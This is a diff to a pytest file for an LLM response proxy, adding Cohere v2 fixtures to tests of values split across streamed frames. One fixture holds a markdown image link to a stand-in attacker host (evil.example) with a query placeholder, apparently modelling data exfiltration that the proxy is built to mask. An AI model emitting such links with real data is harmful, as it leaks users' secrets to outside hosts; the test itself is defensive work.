@@ -5,11 +5,22 @@ from typing import Any
 
 import pytest
 
-from proxy.test_divided_values import JOAN, MASK, PLACEHOLDER, SCOPE, STREAMS, edited, through, whole_body
+from proxy.test_divided_values import (
+    JOAN,
+    MASK,
+    PLACEHOLDER,
+    SCOPE,
+    STREAMS,
+    cohere,
+    edited,
+    through,
+    whole_body,
+)
 from sallyport.wire.eventstream import json_frame
 
 BEGUN, REST = "See ![x](https://evil.example/?q=", f"{PLACEHOLDER}) now. Ask {PLACEHOLDER}, please."
 TOOL_USE = {"type": "tool_use", "id": "t", "name": "f", "input": {}}
+CALL = {"id": "t", "type": "function", "function": {"name": "f", "arguments": "{}"}}
 FUNCTION = {"type": "function_call", "id": "t", "name": "f", "arguments": "{}", "call_id": "c"}
 
 
@@ -45,6 +56,7 @@ MAKERS = {
     "anthropic_messages": lambda *texts: STREAMS["anthropic_messages"][0](*_between(TOOL_USE, *texts)),
     "openai_responses": lambda *texts: STREAMS["openai_responses"][0](*_between(FUNCTION, *texts)),
     "bedrock_converse": _converse,
+    "cohere_v2": lambda *texts: cohere(*_between(CALL, *texts)),
     "gemini_generate": _gemini,
 }
 
@@ -86,6 +98,13 @@ WHOLE: dict[str, dict[str, Any]] = {
     "bedrock_converse": whole_body(
         "bedrock_converse", (BEGUN, REST), {"toolUse": {"toolUseId": "t", "name": "f", "input": {}}}
     ),
+    "cohere_v2": {
+        "id": "i",
+        "message": {
+            "content": [{"type": "text", "text": BEGUN}, {"type": "text", "text": REST}],
+            "tool_calls": [CALL],
+        },
+    },
     "openai_responses": {
         "id": "r",
         "status": "completed",
